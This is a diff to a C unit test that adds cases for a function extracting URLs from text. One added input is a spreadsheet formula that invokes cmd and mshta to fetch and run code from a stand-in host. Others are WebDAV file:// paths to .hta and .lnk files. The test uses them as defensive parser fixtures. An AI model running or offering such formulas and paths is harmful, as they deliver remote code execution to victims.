@@ -57,6 +57,13 @@ static void urls(void **state)
         { "see http://evil.example/a.php.", "url=http://evil.example/a.php" },
         { "(http://evil.example/a_(b))", "url=http://evil.example/a_(b)" },
         { "HTTP://EVIL.Example:8080/A?b=C#d, and", "url=http://evil.example:8080/A?b=C#d" },
+        { "=cmd|'/c mshta http://evil.example/a'!A1,2", "url=http://evil.example/a" },
+        /* Ports of WebDAV are no hosts; resources of a library are no addresses. */
+        { "URL=file://203.0.113.5@80/dav/run.hta", "url=file://203.0.113.5@80/dav/run.hta" },
+        { "file://dav.example@SSL@8443/x.lnk", "url=file://dav.example@SSL@8443/x.lnk" },
+        { "file://dav.example@ssl/x", "url=file://dav.example@ssl/x" },
+        { "file://user@files.example/x", "url=file://user@files.example/x" },
+        { "res://apds.dll/redirect.html?target=x", "" },
         { "<a href=\"http://evil.example/x?y&amp;z\">", "url=http://evil.example/x?y&z" },
         { "http://user:pw@evil.example/", "url=http://user:pw@evil.example/" },
         { "http://evil.exampleにアクセス", "url=http://evil.example" },
